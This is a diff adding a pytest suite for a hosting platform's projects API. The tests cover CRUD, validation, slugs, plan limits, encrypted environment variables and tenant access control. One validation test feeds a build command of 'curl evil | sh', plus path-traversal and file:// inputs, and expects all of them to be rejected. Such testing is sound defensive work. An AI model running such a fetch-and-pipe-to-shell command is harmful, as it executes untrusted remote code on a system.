@@ -1,0 +1,144 @@
+from __future__ import annotations
+
+from typing import Any
+
+import pytest
+
+from shared.permissions import Role
+from shared.plans import Plan, limits_of
+
+
+def fields_of(response: Any) -> set[str]:
+    return {field["field"] for field in response.json()["error"]["details"]["fields"]}
+
+
+def test_a_project_is_made_read_changed_and_deleted(account) -> None:
+    created = account.request("POST", "/api/projects", json={"name": "Café Site"})
+    project = created.json()["data"]
+    assert created.status_code == 201
+    assert created.headers["location"] == f"/api/projects/{project['id']}"
+    assert project["slug"] == "cafe-site"
+    assert project["url"] == "http://cafe-site.localhost:8080"
+
+    assert account.request("GET", f"/api/projects/{project['id']}").json()["data"] == project
+    assert account.request("GET", "/api/projects/by-slug/cafe-site").json()["data"]["id"] == project["id"]
+    changed = account.request("PATCH", f"/api/projects/{project['id']}", json={"buildCommand": "npm run build"})
+    assert changed.json()["data"]["buildCommand"] == "npm run build"
+    assert changed.json()["data"]["name"] == "Café Site"
+    cleared = account.request("PATCH", f"/api/projects/{project['id']}", json={"buildCommand": None})
+    assert cleared.json()["data"]["buildCommand"] is None
+
+    assert account.request("DELETE", f"/api/projects/{project['id']}").status_code == 202
+    assert account.request("GET", f"/api/projects/{project['id']}").status_code == 404
+    assert account.request("GET", "/api/projects").json()["data"] == []
+    assert account.platform.backends.queue.find(f"cleanup:{project['id']}") == "ready"
+
+
+def test_every_wrong_field_is_named(account) -> None:
+    body = {
+        "name": "",
+        "slug": "Not A Slug",
+        "repositoryUrl": "ftp://example.com/x",
+        "repositoryBranch": "a..b",
+        "rootDirectory": "../up",
+        "outputDirectory": "/etc",
+        "nodeVersion": "newest",
+        "buildCommand": "curl evil | sh",
+    }
+    response = account.request("POST", "/api/projects", json=body)
+    assert response.status_code == 422
+    assert fields_of(response) == set(body)
+
+
+def test_every_field_of_a_wrong_type_is_named(account) -> None:
+    response = account.request("POST", "/api/projects", json={"slug": 3, "buildCommand": [], "colour": "red"})
+    assert response.status_code == 422
+    assert fields_of(response) == {"name", "slug", "buildCommand", "colour"}
+
+
+def test_slugs_are_numbered_and_explicit_ones_refused(account) -> None:
+    slugs = [account.project("My Site")["slug"] for _ in range(3)]
+    assert slugs == ["my-site", "my-site-2", "my-site-3"]
+    taken = account.request("POST", "/api/projects", json={"name": "x", "slug": "my-site"})
+    assert (taken.status_code, taken.json()["error"]["code"]) == (409, "SLUG_TAKEN")
+    reserved = account.request("POST", "/api/projects", json={"name": "x", "slug": "api"})
+    assert reserved.status_code == 422
+    assert account.request("POST", "/api/projects", json={"name": "API"}).json()["data"]["slug"] == "api-2"
+
+
+def test_credentials_of_a_repository_are_not_shown(account) -> None:
+    body = {"name": "x", "repositoryUrl": "https://user:hunter2secret@git.example.com/team/site.git"}
+    response = account.request("POST", "/api/projects", json=body)
+    assert response.status_code == 201
+    assert "hunter2secret" not in response.text
+
+
+def test_local_repositories_are_refused(account) -> None:
+    response = account.request("POST", "/api/projects", json={"name": "x", "repositoryUrl": "file:///srv/git/x"})
+    assert (response.status_code, response.json()["error"]["code"]) == (422, "URL_FORBIDDEN")
+
+
+def test_the_plan_bounds_the_number_of_projects(account) -> None:
+    maximum = limits_of(Plan.FREE).maximum_projects
+    with account.platform.backends.database.transaction() as connection:
+        connection.execute(
+            "INSERT INTO projects (id, tenant_id, name, slug) "
+            "SELECT 'proj_' || n, %(tenant_id)s, 'p', 'p-' || n FROM generate_series(1, %(maximum)s) n",
+            {"tenant_id": account.tenant_id, "maximum": maximum},
+        )
+    response = account.request("POST", "/api/projects", json={"name": "one more"})
+    assert (response.status_code, response.json()["error"]["code"]) == (402, "PLAN_LIMIT")
+    account.platform.services.accounts.set_plan("ada@example.com", Plan.PRO)
+    assert account.request("POST", "/api/projects", json={"name": "one more"}).status_code == 201
+
+
+def test_variables_are_written_and_never_read_back(account) -> None:
+    project_id = account.project()["id"]
+    path = f"/api/projects/{project_id}/env"
+    put = account.request("PUT", f"{path}/API_KEY", json={"value": "s3cret-välue", "targets": ["production"]})
+    assert put.status_code == 200
+    account.request("PUT", f"{path}/MODE", json={"value": ""})
+    listed = account.request("GET", path)
+    assert [variable["key"] for variable in listed.json()["data"]] == ["API_KEY", "MODE"]
+    assert "s3cret" not in listed.text + put.text
+    variables = account.platform.services.variables
+    assert variables.decrypt_for(project_id, "production") == {"API_KEY": "s3cret-välue", "MODE": ""}
+    assert variables.decrypt_for(project_id, "preview") == {"MODE": ""}
+    row = account.platform.backends.database.fetch_one(
+        "SELECT ciphertext FROM environment_variables WHERE key = 'API_KEY'"
+    )
+    assert row is not None
+    assert b"s3cret" not in bytes(row["ciphertext"])
+
+    assert account.request("DELETE", f"{path}/MODE").status_code == 204
+    assert account.request("DELETE", f"{path}/MODE").status_code == 404
+
+
+@pytest.mark.parametrize(
+    ("key", "body", "field"),
+    [
+        ("1X", {"value": "x"}, "key"),
+        ("A-B", {"value": "x"}, "key"),
+        ("X", {"value": "x" * 65_537}, "value"),
+        ("X", {"value": "x", "targets": []}, "targets"),
+        ("X", {"value": "x", "targets": ["staging"]}, "targets"),
+    ],
+)
+def test_variables_that_are_refused(account, key: str, body: dict[str, Any], field: str) -> None:
+    project_id = account.project()["id"]
+    response = account.request("PUT", f"/api/projects/{project_id}/env/{key}", json=body)
+    assert response.status_code == 422
+    assert fields_of(response) == {field}
+
+
+def test_a_foreign_project_is_not_found_and_a_readable_one_forbidden(account, register) -> None:
+    project_id = account.project()["id"]
+    eve = register("eve@example.com")
+    assert eve.request("GET", f"/api/projects/{project_id}").status_code == 404
+    assert eve.request("DELETE", f"/api/projects/{project_id}").status_code == 404
+    assert eve.request("GET", "/api/projects/by-slug/site").status_code == 404
+    eve.join(account, Role.VIEWER)
+    assert eve.request("GET", f"/api/projects/{project_id}").status_code == 200
+    refused = eve.request("DELETE", f"/api/projects/{project_id}")
+    assert refused.status_code == 403
+    assert refused.json()["error"]["details"] == {"permission": "project:delete", "role": "VIEWER"}
